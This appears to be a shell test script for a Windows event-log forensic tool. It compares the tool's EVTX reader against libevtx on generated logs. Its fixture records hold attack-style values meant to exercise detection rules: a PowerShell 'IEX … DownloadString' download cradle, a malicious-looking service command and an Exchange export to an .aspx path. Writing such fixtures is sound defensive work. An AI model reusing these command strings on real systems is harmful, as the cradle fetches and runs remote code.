#!/bin/sh
# exhume's own binary XML reader gives every record of the generated logs
# exactly as libevtx does, and the event analysis is byte-identical with
# either reader: plain, template-less, dirty and many-chunk logs.
. "$TOP/tests/lib/tap.sh"
# check DESCRIPTION COMMANDS: one TAP line for COMMANDS' status.
check() { eval "$2"; ok $? "$1"; }

cat >"$TMP/mixed.spec" <<'SPEC'
Microsoft-Windows-Security-Auditing|Security|4624|0|2021-03-03T06:49:42.162Z|1|S-1-5-18|SYSTEM|0x3e7|10|10.1.2.3
Service Control Manager|System|7045|4|2021-03-03T07:00:00Z|2|evilsvc|%COMSPEC% /c "echo <x> & del y"|demand start
MSExchange CmdletLogs|MSExchange Management|1|4|2021-03-03T07:00:01Z|3|New-MailboxExportRequest|{FilePath=\\127.0.0.1\C$\x.aspx}
MsiInstaller|Application|1022|4|2021-03-04T01:00:00Z|4|Microsoft Exchange Server|Security Update (KB5000871)
Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104|5|2021-03-04T02:00:00Z|5|1|1|IEX (New-Object Net.WebClient).DownloadString('http://x/a')
SPEC
i=1
while [ $i -le 3000 ]; do
	echo "MSExchange CmdletLogs|MSExchange Management|1|4|2021-03-03T07:00:00Z||Get-Mailbox|{Identity=user$i}"
	i=$((i + 1))
done >"$TMP/big.spec"
"$TOOLS/mkevtx" "$TMP/mixed.spec" "$TMP/mixed.evtx" >/dev/null
"$TOOLS/mkevtx" --templateless "$TMP/mixed.spec" "$TMP/tl.evtx" >/dev/null
"$TOOLS/mkevtx" --dirty "$TMP/big.spec" "$TMP/dirty.evtx" >/dev/null
"$TOOLS/mkevtx" --corrupt-record 7 "$TMP/big.spec" "$TMP/bad.evtx" >/dev/null
same() {
	"$TOOLS/evtx-compare" -r "$TOP/rules" "$1" >"$TMP/out" &&
	    grep -q " records $2 identical $2 fell_back 0 differing 0 .* analysis same scan_fell_back 0 " "$TMP/out"
}
check "a log of mixed values: 5 records read alike, analysis identical" \
    'same "$TMP/mixed.evtx" 5'
check "the same records stored without templates: read alike" \
    'same "$TMP/tl.evtx" 5'
check "3000 records over several chunks of a dirty log: read alike" \
    'same "$TMP/dirty.evtx" 3000'
check "a damaged log (libevtx alone reads it) analyses the same either way" \
    '"$TOOLS/evtx-compare" -r "$TOP/rules" "$TMP/bad.evtx" >"$TMP/out" &&
     grep -q " differing 0 .* analysis same " "$TMP/out"'
check "the fuzz seeds of the event harness are read alike" \
    '"$TOOLS/evtx-compare" -r "$TOP/rules" "$TOP"/tests/fuzz/seeds/fuzz_events/*.evtx >"$TMP/out" &&
     ! grep -v " fell_back 0 differing 0 .* analysis same " "$TMP/out"'
done_testing
